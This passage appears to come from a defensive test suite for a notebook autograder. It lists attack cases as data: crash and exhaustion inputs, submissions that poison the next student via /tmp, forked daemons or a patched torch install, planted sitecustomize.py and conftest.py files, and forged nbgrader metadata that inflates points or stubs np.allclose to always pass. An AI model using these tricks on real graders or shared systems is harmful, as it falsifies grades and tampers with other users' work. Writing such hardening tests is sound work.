    _crashes("source-of-no-kind", change=lambda n: {**n, "cells": [{"cell_type": "code", "source": {"a": 1}, "metadata": []}, *n["cells"]]}),
    _crashes("null-bytes", change=lambda n: {**n, "cells": [{"cell_type": "code", "metadata": {}, "source": "\0\0"}, *n["cells"]]}),
    _crashes("lone-surrogates", change=lambda n: {**n, "cells": [{"cell_type": "code", "metadata": {}, "source": "x = '\ud800'"}, *n["cells"]]}),
    _crashes("ten-thousand-cells", change=lambda n: {**n, "cells": n["cells"] + [{"cell_type": "markdown", "metadata": {}, "source": "x"}] * 9_000}),
    _crashes("an-archive", change=lambda n: b"PK\x03\x04" + b"\0" * 100, score=0, status="unreadable", honest=0),
    _crashes("keys-that-collide", _SAYS + """
says(b'{"dict":[["answer",{"dict":[' + b",".join(b"[%d,0]" % (k * (2**61 - 1)) for k in range(1, 60_000)) + b']}]]}')
""", cells=course.WRONG, score=0, status="killed"),
    _crashes("one-tensor-everywhere", _SAYS + """
import torch
from safetensors.torch import save
says(b'{"dict":[["answer",[' + b",".join([b'{"tensor":"0"}'] * 50_000) + b']]]}', save({"0": torch.zeros(700_000)}))
""", cells=course.WRONG, score=0, status="killed"),
    _crashes("lists-without-end", _SAYS + "says(b'{\"dict\":[[\"answer\",[' + b'[],' * 1_000_000 + b'0]]]}')", cells=course.WRONG, score=0, status="killed"),
    _crashes("deep-in-a-locked-cell", change=lambda n: _locked_changed(n, "one = 1; two = " + "+".join(["1"] * 900))),
    _crashes("a-number-of-many-digits", cells={**course.SOLUTIONS, "double": course.SOLUTIONS["double"] + "\nsize = 0x" + "f" * 50_000}),
    # Judges parse it; the child that compiles it, for which Python takes gigabytes, is ended, and the rest is graded.
    _crashes("a-name-of-many-dots", change=lambda n: _with_draft(n, "double", "import a" + ".a" * 45_000), status="killed"),
    _crashes("spaces", "x = 1 $" + " " * 90_000 + "\n" + " " * 90_000 + "$"),
    _crashes("megabytes-of-code", change=lambda n: {**n, "cells": [*n["cells"], *[{"cell_type": "code", "metadata": {}, "source": "a\n" * 45_000}] * 30]}, score=0, status="unreadable", honest=0),
    _crashes("thousands-of-complaints", change=lambda n: {**n, "cells": [*n["cells"], *[{"cell_type": "code", "metadata": {}, "source": "raise ValueError('x' * 9_000)"}] * 2_000]}),
]  # fmt: skip

POISON = [
    _tampers("file-in-tmp", "open('/tmp/poison-$NAME', 'w').write('$NAME')", "next student poisoned"),
    _tampers("shared-memory", "open('/dev/shm/poison-$NAME', 'w').write('$NAME')", "next student poisoned"),
    _tampers("system-v-memory", "import ctypes\nif ctypes.CDLL(None).shmget(4711, 4096, 0o1666) >= 0: win()", "next student poisoned"),
    _tampers("neighbours-notebook", "open('$ROOT/submitted/honest-2/tiny/tiny.ipynb', 'a').write('$NAME')", "next student poisoned"),
    _tampers("neighbours-report", "import os\nos.makedirs('$OUT/honest-2', exist_ok=True)\nopen('$OUT/honest-2/$NAME.json', 'w').write('$NAME')", "next student poisoned"),
    _tampers("new-submission", "import os\nos.makedirs('$ROOT/submitted/$NAME-too')", "next student poisoned"),
    _tampers("daemon", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1)
        open("$MARK", "w").write("$NAME")
        os._exit(0)
    os._exit(0)
""", "next student poisoned"),
    _tampers("background-job", "import subprocess\nsubprocess.Popen('sleep 1; touch $MARK', shell=True, start_new_session=True)", "next student poisoned"),
    _tampers("patched-library", "import torch\nopen(torch.__file__, 'a').close()\nwin()", "next student poisoned"),
    _tampers("bytecode-cache", "import os, torch\nopen(os.path.join(os.path.dirname(torch.__file__), '__pycache__', '$NAME.pyc'), 'w').close()\nwin()", "next student poisoned"),
    _tampers("keyring", "import ctypes\nif ctypes.CDLL(None).syscall(248, b'user', b'poison-$NAME', b'x', 1, -4) > 0: win()", "next student poisoned"),
    _tampers("matplotlibs-cache", "import matplotlib, os\nopen(os.path.join(matplotlib.get_cachedir(), 'poison-$NAME'), 'w').close()\nwin()", "next student poisoned"),
]  # fmt: skip


def _supplied(name: str, file: str, text: str = "open('$MARK', 'w').write('$NAME')\n") -> Attack:
    return Attack(name, "supply chain", "", files={file: text})


SUPPLY = [
    _supplied("torch-beside", "torch.py"),
    _supplied("random-beside", "random.py"),
    _supplied("sitecustomize-beside", "sitecustomize.py"),
    _supplied("usercustomize-beside", "usercustomize.py"),
    _supplied("conftest-beside", "conftest.py"),
    _supplied("pytest-ini-beside", "pytest.ini", "[pytest]\naddopts = -p evil\n"),
    _supplied("nbgrader-config-beside", "nbgrader_config.py"),
    _supplied("kernel-config-beside", "ipython_config.py"),
    _supplied("checks-beside", "checks.py"),
    Attack("imports-its-neighbour", "supply chain", "import evil", files={"evil.py": "open('$MARK', 'w').write('$NAME')\n"}),
    Attack("installs-a-package", "supply chain", WIN + "import subprocess, sys\nif subprocess.run([sys.executable, '-c', 'print(1)'], check=False).returncode == 0: win()"),
]  # fmt: skip

METADATA = [
    Attack("kernel-of-its-own", "notebook metadata", "", change=lambda n: {**n, "metadata": {"kernelspec": {"name": "evil", "display_name": "x", "language": "bash"}}}),
    Attack("kernel-that-leaves-the-folder", "notebook metadata", "", change=lambda n: {**n, "metadata": {"kernelspec": {"name": "../../evil", "display_name": "x"}}}),
    Attack("metadata-of-no-kind", "notebook metadata", "", change=lambda n: {**n, "metadata": [1, 2, {"a": None}]}),
    Attack("nbgrader-metadata-of-no-kind", "notebook metadata", "", change=lambda n: {**n, "cells": [{**n["cells"][0], "metadata": {"nbgrader": "yes"}}, *n["cells"]]}),
    Attack("format-from-the-future", "notebook metadata", "", change=lambda n: {**n, "nbformat": 99, "nbformat_minor": 10**30}),
    Attack("grade-id-is-a-path", "notebook metadata", "", change=lambda n: {**n, "cells": [*n["cells"], {"cell_type": "code", "source": "1", "outputs": [], "metadata": {"nbgrader": {"grade_id": "../../../../canary/x", "grade": True, "points": 999, "solution": True, "locked": False, "schema_version": 3}}}]}),
    Attack("locked-cell-changed", "notebook metadata", "", change=lambda n: _locked_changed(n)),
    Attack("solution-cells-doubled", "notebook metadata", "", change=lambda n: _doubled_solutions(n)),
    Attack("checks-in-place-of-exercises", "notebook metadata", "", cells=course.WRONG, score=0, change=lambda n: _all_locked(n)),
    Attack("ids-of-others", "notebook metadata", "", cells=course.WRONG, score=0, change=lambda n: _with_id(n, "setup")),
    Attack("explored-only", "notebook metadata", "", change=lambda n: _cells(n, lambda cell: cell["metadata"].update({"tags": ["explore", "hide-cell", 3, None]}))),
]  # fmt: skip


def _cells(notebook: dict, change: Callable[[dict], None]) -> dict:
    for cell in notebook["cells"]:
        change(cell)
    return notebook


def _with_points(notebook: dict, points: float) -> dict:
    def change(cell: dict) -> None:
        marks = cell["metadata"].get("nbgrader", {})
        marks.update({"points": points, "grade": True})

    return _cells(notebook, change)


def _with_checks(notebook: dict, source: str) -> dict:
    def change(cell: dict) -> None:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade"):
            cell["source"] = source
            marks.update({"locked": False, "solution": True})

    return _cells(notebook, change)


def _doubled_checks(notebook: dict) -> dict:
    checks = [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
    extra = [json.loads(json.dumps({**c, "source": "pass"})) for c in checks]
    for number, cell in enumerate(extra):
        cell["metadata"]["nbgrader"].update({"grade_id": f"more-{number}", "points": 100, "locked": False})
    return {**notebook, "cells": [*notebook["cells"], *extra]}


def _with_outputs(notebook: dict) -> dict:
    def change(cell: dict) -> None:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            data = {"text/plain": "2.0"}
            cell["outputs"] = [{"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}]

    return _cells(notebook, change)


def _doubled_solutions(notebook: dict) -> dict:
    """Each exercise twice, the second time for more points and unlocked."""
    twice = json.loads(json.dumps(notebook["cells"]))
    for cell in twice:
        cell["metadata"].get("nbgrader", {}).update({"points": 1000, "grade": True, "locked": False})
    return {**notebook, "cells": [*notebook["cells"], *twice]}


def _with_draft(notebook: dict, name: str, source: str) -> dict:
    """An earlier cell of the same exercise, which is run with the one that answers."""
    marks = {"grade_id": name, "solution": True, "grade": False, "locked": False, "schema_version": 3}
    draft = {"cell_type": "code", "metadata": {"nbgrader": marks}, "outputs": [], "source": source}
    return {**notebook, "cells": [draft, *notebook["cells"]]}


def _all_locked(notebook: dict) -> dict:
    """Exercises that claim to be released, checked and worth points."""

    def change(cell: dict) -> None:
        marks = cell["metadata"].get("nbgrader", {})
        marks.update({"locked": True, "grade": True, "points": 1000, "cell_type": "markdown"})

    return _cells(notebook, change)


def _with_id(notebook: dict, name: str) -> dict:
    """Exercise cells that bear the name of a locked one."""

    def change(cell: dict) -> None:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["metadata"]["nbgrader"]["grade_id"] = name

    return _cells(notebook, change)


def _locked_changed(notebook: dict, source: str = "import numpy as np\nnp.allclose = lambda *a: True") -> dict:
    def change(cell: dict) -> None:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "setup":
            cell["source"] = source

    return _cells(notebook, change)


ATTACKS = [*FORGED, *SECRETS, *HOST, *NETWORK, *EXHAUSTION, *HANGS, *CRASHES, *POISON, *SUPPLY, *METADATA]
